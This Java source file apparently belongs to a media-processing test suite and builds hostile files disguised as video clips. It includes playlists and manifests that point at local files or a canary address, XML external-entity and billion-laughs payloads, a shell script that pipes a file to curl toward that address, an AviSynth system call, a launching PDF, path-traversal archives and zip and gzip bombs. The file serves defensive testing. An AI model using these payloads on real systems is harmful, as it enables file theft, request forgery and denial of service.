package anb.media;

import static anb.media.HostileFile.noMp4;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files of other kinds under the name of a clip: what a program that trusts their content would open, run or unpack. */
final class Disguises {

    private static final int BOMB = 64 << 20;

    private final List<HostileFile> files = new ArrayList<>();
    private final String path;
    private final String url;
    private final int port;

    private Disguises(Canary canary) {
        path = canary.path();
        url = canary.url();
        port = canary.port();
    }

    static List<HostileFile> at(Canary canary) {
        var disguises = new Disguises(canary);
        disguises.playlists();
        disguises.manifests();
        disguises.texts();
        disguises.programs();
        disguises.otherMedia();
        disguises.archives();
        return disguises.files;
    }

    private void playlists() {
        var entry = "#EXTM3U\n#EXT-X-TARGETDURATION:30\n#EXTINF:30,\n%s\n#EXT-X-ENDLIST\n";
        add("HLS playlist", "of a file", entry.formatted("file://" + path));
        add("HLS playlist", "of an address", entry.formatted(url + ".ts"));
        add("HLS playlist", "joined", entry.formatted("concat:" + url + "|file://" + path));
        add("HLS playlist", "behind a byte order mark", "\ufeff" + entry.formatted(url));
        add(
                "HLS key",
                "at an address",
                entry.replace("#EXTINF", "#EXT-X-KEY:METHOD=AES-128,URI=\"" + url + "\"\n#EXTINF"));
        add("concat list", "of a file", "ffconcat version 1.0\nfile '" + path + "'\n");
        add("concat list", "of an address", "ffconcat version 1.0\nfile '" + url + "'\nduration 30\n");
        add("list of a player", "pls", "[playlist]\nFile1=" + url + "\nNumberOfEntries=1\nVersion=2\n");
        add("list of a player", "asx", "<asx version=\"3.0\"><entry><ref href=\"" + url + "\"/></entry></asx>");
        add("list of a player", "ram", url + "\n");
    }

    private void manifests() {
        var mpd =
                "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT30S\"><Period>"
                        + "<AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>%s</BaseURL>"
                        + "</Representation></AdaptationSet></Period></MPD>";
        add("DASH manifest", "of a file", "<?xml version=\"1.0\"?>" + mpd.formatted("file://" + path));
        add("DASH manifest", "of an address", mpd.formatted(url));
        var doctype = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"%s\">]>";
        add("external entity", "of a file", doctype.formatted("file://" + path) + mpd.formatted("&e;"));
        add("external entity", "of an address", doctype.formatted(url) + mpd.formatted("&e;"));
        add(
                "entity bomb",
                "a billion laughs",
                "<!DOCTYPE x [<!ENTITY a \"" + "ha".repeat(50) + "\"><!ENTITY b \"" + "&a;".repeat(50)
                        + "\"><!ENTITY c \"" + "&b;".repeat(50) + "\"><!ENTITY d \"" + "&c;".repeat(50)
                        + "\">]><MPD>&d;</MPD>");
        add(
                "Smooth Streaming manifest",
                "of an address",
                "<SmoothStreamingMedia MajorVersion=\"2\"><StreamIndex Url=\"" + url + "\"/>");
        add(
                "session description",
                "SDP",
                "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nt=0 0\nm=video " + port + " RTP/AVP 96\n");
    }

    private void texts() {
        var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1920\" height=\"1080\"><image href=\"%s\"/></svg>";
        add("SVG", "with a file", svg.formatted("file://" + path));
        add("SVG", "with an address", "\n" + svg.formatted(url));
        add("XBIN", "text as a picture", "XBIN\u001ax\u0000C\u0000\u0010\u0000" + "A\u0007".repeat(8000));
        add("ANSI art", "text as a picture", "\u001b[2J\u001b[31m" + "#".repeat(5000));
        var cue = "00:00:01,000 --> 00:00:30,000\n<img src=\"" + url + "\">\n";
        add("subtitles", "SubRip", "1\n" + cue);
        add("subtitles", "WebVTT", "WEBVTT\n\n" + cue.replace(',', '.'));
        add(
                "subtitles",
                "ASS with a font",
                "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ../../" + path + "\n[Events]\n");
        add("subtitles", "SAMI", "<SAMI><BODY><SYNC Start=1><P>" + url);
        add("page", "HTML with a script", "<!doctype html><script src=\"" + url + "\"></script>");
    }

    private void programs() {
        add("AviSynth script", "of a file", "AVISource(\"" + path + "\")\nSystem(\"curl " + url + "\")\n");
        add("shell script", "sh", "#!/bin/sh\ncat " + path + " | curl -d @- " + url + "\n");
        add("program", "ELF", "\u007fELF\u0002\u0001\u0001\u0000" + "\u0000".repeat(56));
        add("program", "Windows", "MZ\u0090\u0000\u0003\u0000\u0000\u0000" + "\u0000".repeat(56));
        add("document", "PDF that launches", "%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(" + path + ")>>>>endobj\n");
        add("document", "PostScript that reads", "%!PS\n(" + path + ") (r) file 1000 string readstring pop show\n");
        add("metadata", "of ffmpeg", ";FFMETADATA1\ntitle=" + url + "\n[CHAPTER]\nSTART=-1\nEND=1\n");
    }

    private void otherMedia() {
        var playlist = "#EXTM3U\n#EXTINF:30,\nfile://" + path + "\n";
        add(
                "AVI",
                "with a playlist for subtitles",
                "RIFF\u00ff\u00ff\u00ff\u007fAVI LIST@\u0000\u0000\u0000GAB2\u0000" + playlist);
        add("Matroska", "with a playlist attached", "\u001aE\u00df\u00a3\u009fB\u0082\u0088matroska" + playlist);
        add("transport stream", "of nothing", "G@\u0000\u0010".repeat(1000));
        add(
                "Windows Media",
                "with a script command",
                "0&\u00b2u\u008ef\u00cf\u0011\u00a6\u00d9\u0000\u00aa\u0000b\u00ce l" + url);
        add(
                "picture bomb",
                "PNG of 60,000 pixels a side",
                "\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\u0000\u0000\u00ea`\u0000\u0000\u00ea`\b\u0006");
        add("picture bomb", "GIF", "GIF89a\u00ff\u00ff\u00ff\u00ff\u0000\u0000\u0000,");
        var kinds = List.of("qt  ", "heic", "avif", "jp2 ", "M4A ", "3gp4", "\u0000\u0000\u0000\u0000", "../.");
        kinds.forEach(kind -> add(
                "brand of something else",
                kind.strip(),
                "\u0000\u0000\u0000\u0010ftyp" + kind + "\u0000\u0000\u0000\u0000moov"));
    }

    private void archives() {
        files.add(noMp4("zip bomb", "of zeros", zip("clip.mp4", new byte[BOMB])));
        files.add(noMp4("archive with paths", "upwards", zip("../../../../" + path, new byte[10])));
        files.add(noMp4("gzip bomb", "of zeros", gzip(new byte[BOMB])));
        files.add(noMp4("gzip bomb", "in itself", gzip(gzip(new byte[BOMB]))));
    }

    private void add(String technique, String name, String content) {
        var charset = content.chars().allMatch(c -> c < 256) ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8;
        files.add(noMp4(technique, name, content.getBytes(charset)));
    }

    static byte[] zip(String name, byte[] content) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
            zip.closeEntry();
        } catch (IOException never) {
            throw new UncheckedIOException(never);
        }
        return bytes.toByteArray();
    }

    static byte[] gzip(byte[] content) {
        var bytes = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(bytes)) {
            gzip.write(content);
        } catch (IOException never) {
            throw new UncheckedIOException(never);
        }
        return bytes.toByteArray();
    }
}
